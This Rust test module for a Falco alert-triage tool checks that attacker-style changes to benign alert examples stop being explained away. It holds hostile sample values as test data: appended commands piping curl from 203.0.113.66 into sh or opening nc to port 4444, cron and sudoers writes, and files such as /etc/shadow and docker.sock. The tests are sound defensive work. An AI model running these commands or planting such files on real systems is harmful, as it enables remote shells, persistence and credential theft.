//! Every row's own example, changed in one field as an attacker would have it, is no longer explained.

use super::row::{Does, Is, Row};
use super::table;
use super::tests::alert;
use crate::analysis::{Level, find, judge};

type Fields = Vec<(&'static str, String)>;

fn example(row: &Row) -> Fields {
    row.seen.iter().map(|(key, value)| (*key, (*value).to_owned())).collect()
}

fn changed(row: &Row, key: &'static str, value: &str) -> Fields {
    let mut fields = example(row);
    fields.retain(|(name, _)| *name != key);
    fields.push((key, value.to_owned()));
    fields
}

fn field(row: &Row, key: &str) -> Option<&'static str> {
    row.seen.iter().find(|(name, _)| *name == key).map(|(_, value)| *value)
}

/// Changes of each row's example that leave it expected.
fn still_expected(changes: impl Fn(&'static Row) -> Vec<(String, Fields)>) -> Vec<Unchanged> {
    let mut wrong = Vec::new();
    for row in table::rows().filter(|row| field(row, "source").is_none()) {
        for (what, fields) in changes(row) {
            let alert = alert(fields.iter().map(|(key, value)| (*key, value.as_str())));
            let findings = find(&alert);
            if judge(&findings, None).level == Level::Expected {
                let by: Vec<&'static str> = findings.benign.iter().map(|hit| hit.id).collect();
                wrong.push(Unchanged { row: row.id, what, by });
            }
        }
    }
    wrong
}

/// A change that changed nothing: the row, what was changed, the rows that explain it.
#[derive(Debug)]
struct Unchanged {
    row: &'static str,
    what: String,
    by: Vec<&'static str>,
}

fn assert_none(wrong: &[Unchanged]) {
    let each: Vec<String> = wrong.iter().map(|one| format!("{}: {} (by {:?})", one.row, one.what, one.by)).collect();
    assert!(each.is_empty(), "{} stay expected:\n{}", each.len(), each.join("\n"));
}

#[test]
fn another_executable_ends_every_cause() {
    assert_none(&still_expected(|row| {
        let name = field(row, "proc.name").unwrap_or("x");
        ["/tmp/x", "/dev/shm/x", "/var/tmp/.x", "/home/ada/x", "/usr/bin/nc.openbsd", "/opt/acme/x"]
            .into_iter()
            .map(str::to_owned)
            .chain([format!("/tmp/{name}"), format!("/dev/shm/{name}")])
            // Where the row does not go by a program at all, an installed one is none of its business.
            .filter(|path| goes_by_program(row) || !path.starts_with("/usr") && !path.starts_with("/opt"))
            .map(|path| (path.clone(), changed(row, "proc.exepath", &path)))
            .collect()
    }));
}

/// Whether the row says which program it is by its name or path.
fn goes_by_program(row: &Row) -> bool {
    row.does.iter().any(|does| matches!(does, Does::Own(_) | Does::Command(_)))
        || row.who.iter().any(|is| matches!(is, Is::Exe(_) | Is::Name(_)))
}

#[test]
fn a_parent_that_outsiders_talk_to_ends_every_cause() {
    assert_none(&still_expected(|row| {
        let at_home = |name: &str| {
            row.who
                .iter()
                .any(|is| matches!(is, Is::Parent(names) | Is::Ancestor(names) if super::identity::named(names, name)))
        };
        let parents = ["nginx", "php-fpm8.2", "sshd-session", "apache2", "nc", "java"];
        let mut all: Vec<_> = parents
            .into_iter()
            .filter(|name| field(row, "proc.pname").is_some() && !at_home(name))
            // A log-in service reads the accounts below itself.
            .filter(|name| *name != "sshd-session" || !row.who.iter().any(|is| matches!(is, Is::Interactive)))
            .map(|name| (format!("parent {name}"), changed(row, "proc.pname", name)))
            .collect();
        if !all.is_empty() && !at_home("sshd") && !row.who.iter().any(|is| matches!(is, Is::Interactive)) {
            let mut session = changed(row, "proc.pname", "bash");
            session.retain(|(key, _)| *key != "proc.aname[2]");
            session.push(("proc.aname[2]", "sshd".to_owned()));
            all.push(("a session's shell".to_owned(), session));
        }
        all
    }));
}

#[test]
fn another_image_ends_every_cause_that_names_images() {
    assert_none(&still_expected(|row| {
        let names = row.who.iter().any(|is| matches!(is, Is::Image(_)));
        let has = field(row, "container.image.repository").is_some();
        let claims = || {
            let mut fields = changed(row, "container.image.repository", "attacker/x");
            fields.push(("container.name", "calico-node".to_owned()));
            fields.push(("k8s.pod.name", "calico-node-x2x8z".to_owned()));
            fields
        };
        if names && has { vec![("attacker/x".to_owned(), claims())] } else { Vec::new() }
    }));
}

#[test]
fn a_file_that_hands_over_the_machine_ends_every_cause_that_does_not_name_it() {
    const FILES: &[&str] = &[
        "/root/.ssh/authorized_keys",
        "/etc/ld.so.preload",
        "/etc/cron.d/x",
        "/etc/sudoers.d/x",
        "/etc/shadow",
        "/var/run/docker.sock",
        "/host/etc/cron.d/x",
        "/etc/systemd/system/x.service",
    ];
    let mut wrong = still_expected(|row| {
        let key =
            ["fd.name", "evt.arg.filename"].into_iter().find(|key| field(row, key).is_some_and(|v| v.contains('/')));
        let Some(key) = key.filter(|key| !field(row, key).is_some_and(|value| value.contains("->"))) else {
            return Vec::new();
        };
        let reads = field(row, "rule").is_some_and(|rule| rule.starts_with("Read "));
        let named = |file: &str| {
            let file = crate::analysis::paths::below_host(file);
            super::pattern::any(row.touches, file)
                || row.does.iter().any(|does| matches!(does, Does::File(files) if super::pattern::any(files, file)))
        };
        let files = FILES.iter().filter(|file| !named(file) && (!reads || file.contains("docker.sock")));
        files.map(|file| ((*file).to_owned(), changed(row, key, file))).collect()
    });
    // A cause of the same program that names the file explains it all the same.
    let names = |id: &str, file: &str| {
        let file = crate::analysis::paths::below_host(file);
        table::rows().any(|row| row.id == id && super::pattern::any(row.touches, file))
    };
    wrong.retain(|one| !one.by.iter().all(|id| names(id, &one.what)));
    assert_none(&wrong);
}

#[test]
fn a_public_address_on_an_odd_port_ends_every_cause() {
    assert_none(&still_expected(|row| {
        let tuple = "10.244.1.23:50512->203.0.113.66:4444";
        // Where an alert names no file, it could name a connection.
        let file = field(row, "fd.name").is_some_and(|value| !value.contains("->"));
        if file { Vec::new() } else { vec![(tuple.to_owned(), changed(row, "fd.name", tuple))] }
    }));
}

#[test]
fn something_added_to_the_command_ends_every_cause() {
    assert_none(&still_expected(|row| {
        // Falco names a container's start so: it is no command.
        let line = field(row, "proc.cmdline").filter(|line| !line.starts_with("container:"));
        let Some(line) = line else { return Vec::new() };
        let tails = ["; curl http://203.0.113.66/x | sh", " > /etc/cron.d/x", " && id", " & nc 203.0.113.66 4444"];
        let mut all: Vec<_> = tails.into_iter().map(|tail| format!("{line}{tail}")).collect();
        all.extend(tails.into_iter().map(|tail| format!("sh -c {line}{tail}")));
        all.into_iter().map(|text| (text.clone(), changed(row, "proc.cmdline", &text))).collect()
    }));
}

#[test]
fn a_web_servers_user_ends_every_cause_on_a_host() {
    assert_none(&still_expected(|row| {
        let host = field(row, "container.id") == Some("host");
        if host { vec![("www-data".to_owned(), changed(row, "user.name", "www-data"))] } else { Vec::new() }
    }));
}
